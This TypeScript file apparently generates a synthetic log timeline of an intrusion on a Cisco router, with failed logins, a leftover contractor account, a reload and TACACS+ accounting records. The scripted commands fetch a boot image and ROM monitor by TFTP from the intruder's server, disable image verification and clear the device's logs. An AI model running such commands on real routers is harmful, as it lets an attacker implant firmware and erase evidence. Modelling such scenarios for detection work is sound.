// The intrusion: at night, from outside, an image and a ROM monitor are fetched by TFTP and booted on a Cisco router.

import { intruder } from "../estate.ts";
import type { Remark, Said, Story } from "../timeline.ts";
import { moment } from "../timeline.ts";
import { configLine, configured, login, logout, says } from "../vendors/cisco-ios.ts";
import { accounted } from "../vendors/tacacs.ts";

export const device = "eld-edge-r1";
/** An account of a contractor who left. */
const user = "contr02";
const { source, server } = intruder;
const image = "c2900-universalk9-mz.SPA.157-3.M2.bin";
const thursday = 3;

const at = (clock: string, remark: Remark): Said => ({ ...remark, atMs: moment(thursday, clock) });

const failed = (name: string): Remark =>
  says(
    "SEC_LOGIN-4-LOGIN_FAILED",
    `Login failed [user: ${name}] [Source: ${source}] [localport: 22] [Reason: Login Authentication Failed]`,
  );

const unsynced = (remark: Remark): Remark => ({ ...remark, isUnsynced: true });

const restarted = says(
  "SYS-5-RESTART",
  [
    "System restarted --",
    "Cisco IOS Software, C2900 Software (C2900-UNIVERSALK9-M), Version 15.7(3)M2, RELEASE SOFTWARE (fc2)",
    "Technical Support: http://www.cisco.com/techsupport",
    "Compiled Wed 28-Mar-18 11:08 by prod_rel_team",
  ].join("\n"),
);

export const told: Story = {
  downMs: [moment(thursday, "02:49:06"), moment(thursday, "02:56:01")],
  said: [
    at("02:31:10", failed("admin")),
    at("02:31:19", failed("cisco")),
    at("02:31:31", failed("root")),
    at("02:36:41", login(user, source)),
    at(
      "02:36:52",
      says("SYS-5-PRIV_AUTH_PASS", `Privilege level set to 15 by ${user} on vty0 (${source})`),
    ),
    at("02:45:12", configLine(user, "no file verify auto")),
    at("02:45:40", configLine(user, "no boot system")),
    at("02:45:58", configLine(user, `boot system flash0:${image}`)),
    at("02:46:17", configLine(user, `boot system tftp ${image} ${server}`)),
    at("02:46:40", configLine(user, "config-register 0x2102")),
    at("02:47:05", configured(user, source)),
    at(
      "02:49:05",
      says(
        "SYS-5-RELOAD",
        `Reload requested by ${user} on vty0 (${source}). Reload Reason: Reload Command.`,
      ),
    ),
    at("02:56:02", unsynced(restarted)),
    at(
      "02:56:02",
      unsynced(says("SNMP-5-COLDSTART", `SNMP agent on host ${device} is undergoing a cold start`)),
    ),
    at(
      "02:56:03",
      unsynced(says("SYS-6-BOOTTIME", "Time taken to reboot after reload =  412 seconds")),
    ),
    at("02:56:04", unsynced(says("SYS-5-CONFIG_I", "Configured from memory by console"))),
    at("02:56:41", says("BGP-5-ADJCHANGE", "neighbor 192.0.2.1 Up ")),
    at("02:58:12", login(user, source)),
    at("03:01:45", logout(user, source)),
  ],
};

const run = (clock: string, command: string): Said =>
  at(clock, accounted({ device, user, source, command }));

/** What the TACACS+ server recorded meanwhile: EXEC commands never reach the device's own log. */
export const accountedMeanwhile: Story = {
  said: [
    run("02:36:58", "show version"),
    run("02:37:20", "show flash0:"),
    run("02:37:44", "show privilege"),
    run("02:38:31", `copy tftp://${server}/${image} flash0:${image}`),
    run("02:42:50", `dir flash0:`),
    run("02:43:37", `upgrade rom-monitor file tftp://${server}/C2900_RM2.srec`),
    run("02:45:03", "configure terminal"),
    run("02:47:31", "copy running-config startup-config"),
    run("02:48:02", "clear logging"),
    run("02:48:55", "reload"),
    run("02:58:30", "show version"),
  ],
};
